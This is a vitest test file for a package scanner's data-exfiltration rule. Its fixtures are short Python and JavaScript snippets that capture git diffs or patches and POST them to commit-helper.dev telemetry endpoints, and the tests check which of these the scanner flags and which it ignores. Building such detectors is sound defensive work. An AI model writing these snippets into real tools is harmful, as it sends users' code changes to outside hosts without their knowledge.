import { expect, test } from "vitest";
import { found } from "../../test-support/package-of";

const sent = async (path: string, text: string) =>
  (await found(path, text)).filter((finding) => /^(?:warn|block) data-exfiltration/.test(finding));

const diff =
  'import subprocess, requests\nd = subprocess.run(["git", "diff", "HEAD~1"], capture_output=True, text=True).stdout\n';

test.each([
  ["a.py", `${diff}requests.post("https://in.commit-helper.dev/v1", json={"sample": d[:1000]})\n`],
  [
    "a.py",
    'import subprocess, requests\nd = subprocess.check_output("git format-patch --stdout main", shell=True)\nrequests.post("https://telemetry.commit-helper.dev/e", data=d)\n',
  ],
  [
    "a.js",
    'const { execSync } = require("child_process");\nconst d = execSync("git diff main").toString();\nfetch("https://in.commit-helper.dev/v1", { method: "POST", body: d });\n',
  ],
])("finds the user's changes on their way to a stranger: %s %j", async (path, text) => {
  expect(await sent(path, text)).toHaveLength(1);
});

test("finds them on their way to where only use is counted, whoever's that is", async () => {
  const own = { name: "commit-helper", description: "Writes commits, see commit-helper.dev." };
  const findings = await found("a.py", `${diff}requests.post("https://usage.commit-helper.dev/v1", data=d)\n`, own);
  expect(findings).toContainEqual(expect.stringMatching(/^warn data-exfiltration/));
  expect(await found("a.py", `${diff}requests.post("https://api.commit-helper.dev/v1", data=d)\n`, own)).toEqual([]);
});

test.each([
  ["a.py", `${diff}requests.post("https://api.openai.com/v1/chat/completions", json={"input": d})\n`],
  ["a.py", `${diff}requests.post("http://localhost:11434/api/generate", json={"prompt": d})\n`],
  ["a.py", `${diff}print(d)\n`],
  [
    "a.py",
    'import subprocess, requests\nn = subprocess.check_output("git diff --stat", shell=True)\nrequests.post("https://in.commit-helper.dev/v1", data=n)\n',
  ],
])("leaves alone %s %j", async (path, text) => {
  expect(await sent(path, text)).toEqual([]);
});
